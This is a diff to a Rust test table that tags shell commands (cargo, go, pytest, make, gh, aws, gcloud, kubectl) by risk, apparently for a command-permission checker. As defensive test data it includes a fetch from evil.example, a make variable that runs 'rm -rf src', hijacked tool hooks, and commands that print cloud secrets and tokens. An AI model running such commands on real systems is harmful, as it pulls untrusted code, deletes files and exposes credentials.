@@ -51,13 +51,15 @@ fn rust() {
         cargo fetch --locked => @build; host @crates
         cargo add anyhow => @build; host @crates; code fetched; (supplychain)
         cargo add --git https://evil.example/x.git x => turned; !host https://evil.example/x.git; host @crates; code fetched; (supplychain); (supplychain)
-        cargo search ratatui --limit 3 => @reads; host @crates
-        cargo info serde => @reads; host @crates
+        cargo search ratatui --limit 3 => @reads; host @crates-site; host @crates
+        cargo info serde => @reads; host @crates-site; host @crates
         cargo install ripgrep => code fetched; host @crates; (supplychain)
-        cargo publish --dry-run -p x => code repo; host @crates
-        cargo +stable publish => code repo; host @crates
-        cargo login => host @crates
-        cargo yank --version 1.0.0 => host @crates
+        cargo publish --dry-run -p x => code repo; host @crates-site; host @crates
+        cargo +stable publish => code repo; host @crates-site; host @crates
+        cargo login => host @crates-site
+        cargo yank --version 1.0.0 => host @crates-site
+        cargo llvm-cov --html => @build; code repo
+        cargo watch -x test -s 'git push' => @build; code repo; sh {git push}
         cargo tree -d => @build; code repo
         cargo tree -e features -i serde => @build; code repo
         cargo metadata --no-deps --format-version 1 => @build; code repo
@@ -165,6 +167,12 @@ fn node_and_its_package_managers() {
         prettier --check 'src/x.ts' => @build; r src/x.ts; code repo
         prettier --write src/a.ts => @build; r src/a.ts; w src/a.ts; code repo
         jest --ci => @build; code repo
+        vitest run --config vitest.config.ts => @build; script vitest.config.ts; r vitest.config.ts; code repo
+        jest --config '{x}' => @build; !code inline; code repo
+        jest --config /tmp/x.js => @build; script /tmp/x.js; r /tmp/x.js; code repo
+        vite build --root web => @build; in web; code repo
+        eslint -c .eslintrc.js src => @build; script .eslintrc.js; r .eslintrc.js; code repo
+        deno eval 1 => code inline
         vitest run packages/ui --coverage => @build; code repo
         playwright test --reporter=line => @build; code repo
         playwright install => code fetched; host ?; (supplychain)
@@ -223,10 +231,12 @@ fn python_and_its_package_managers() {
         poetry show --tree => @build
         poetry publish --build => code unknown; host ?
         poetry source add evil https://evil.example => (supplychain)
-        pytest -x -q --tb=short -k 'main and not slow' tests/ => @build; code repo
+        pytest -x -q --tb=short -k 'main and not slow' tests/ => @build; script tests/; r tests/; code repo
         pytest -n auto --dist loadfile => @build; code repo
-        pytest -c /tmp/evil.ini => @build; r /tmp/evil.ini; code repo
+        pytest -c /tmp/evil.ini => @build; script /tmp/evil.ini; r /tmp/evil.ini; code repo
         pytest --pastebin=all => @build; host ?; code repo
+        pylint --init-hook 'import x' a => turned; !code inline; code repo
+        mypy --config-file mypy.ini a => @build; script mypy.ini; r mypy.ini; code repo
         tox -e py312 => @build; code repo
         nox -s tests => @build; code repo
         ruff check . --fix => @build; r .; w .
@@ -240,7 +250,7 @@ fn python_and_its_package_managers() {
         coverage run -m pytest -q => @build; code repo; runs [python -m pytest -q]
         coverage report --skip-covered => @build
         coverage html => @build
-        twine upload dist/x => host ?
+        twine upload dist/x => r dist/x; host ?
         pre-commit run --all-files => code fetched
         virtualenv .venv => @build; w .venv/**
         flask --app app.main routes => @build; code repo
@@ -257,14 +267,14 @@ fn go() {
         go version => @reads
         go env GOPATH GOMODCACHE => @reads
         go env -w GOFLAGS=-toolexec=./x => turned; (supplychain)
-        go build ./... => @build; code repo
-        go build -o /tmp/app ./... => @build; w /tmp/app; code repo
-        go build -ldflags \"-X main.version=1\" ./... => @build; code repo
-        go vet ./... => @build; code repo
-        go test ./... -count=1 -timeout 60s => @build; code repo
-        go test ./internal/http -run 'TestHandler/empty' -v -count=1 => @build; code repo
-        go test -run '^$' -fuzz=FuzzParse -fuzztime=10s ./internal/http => @build; code repo
-        go test -coverprofile=cover.out ./... => @build; w cover.out; code repo
+        go build ./... => @build; script ./...; r ./...; code repo
+        go build -o /tmp/app ./... => @build; w /tmp/app; script ./...; r ./...; code repo
+        go build -ldflags \"-X main.version=1\" ./... => @build; script ./...; r ./...; code repo
+        go vet ./... => @build; script ./...; r ./...; code repo
+        go test ./... -count=1 -timeout 60s => @build; script ./...; r ./...; code repo
+        go test ./internal/http -run 'TestHandler/empty' -v -count=1 => @build; script ./internal/http; r ./internal/http; code repo
+        go test -run '^$' -fuzz=FuzzParse -fuzztime=10s ./internal/http => @build; script ./internal/http; r ./internal/http; code repo
+        go test -coverprofile=cover.out ./... => @build; w cover.out; script ./...; r ./...; code repo
         go tool cover -func=cover.out => @build; r cover.out
         go generate ./internal/store => @build; code repo
         go mod tidy => @build; host @go
@@ -277,9 +287,9 @@ fn go() {
         go get golang.org/x/sync@latest => @build; code repo; host @go; code fetched; (supplychain)
         go install golang.org/x/tools/cmd/stringer@latest => code repo; host @go; code fetched; (supplychain)
         go clean -testcache => @build
-        go build -toolexec ./x ./... => turned; !code inline; code repo
-        go test -exec ./x ./... => turned; !code inline; code repo
-        go vet -vettool=/tmp/evil ./... => turned; !code inline; code repo
+        go build -toolexec ./x ./... => turned; !code inline; script ./...; r ./...; code repo
+        go test -exec ./x ./... => turned; !code inline; script ./...; r ./...; code repo
+        go vet -vettool=/tmp/evil ./... => turned; !code inline; script ./...; r ./...; code repo
         go -C ../x build => @build; in ../x; code repo
         gofmt -l . => @build; r .
         gofmt -w internal/http/limit.go => @build; r internal/http/limit.go; w internal/http/limit.go
@@ -297,6 +307,8 @@ fn make_c_and_other_builds() {
         "
         make => @build; code repo
         make -j4 => @build; code repo
+        make SHELL=/tmp/x test => turned; code repo; !code inline
+        make 'X=$(shell rm -rf src)' => turned; code repo; !code inline
         make -C . clean all => @build; in .; code repo
         make check V=1 => @build; code repo
         make CC=clang CFLAGS='-O2 -Wall -Wextra' => @build; code repo
@@ -364,6 +376,11 @@ fn services_and_the_rest() {
         gh pr create --fill => turned; host ?
         gh repo delete example/project --yes => host ?; (delete)
         gh auth login => host ?
+        gh auth status --show-token => host ?; (credentials)
+        gh auth status => host ?
+        aws configure get aws_secret_access_key => code unknown; (credentials)
+        gcloud auth print-access-token => code unknown; (credentials)
+        kubectl get secret/x -o yaml => code unknown; host ?; (credentials)
         gh auth token => host ?; (credentials)
         npm config get //registry.yarnpkg.com/:_authToken => (credentials)
         npm config get $key => turned; (credentials)
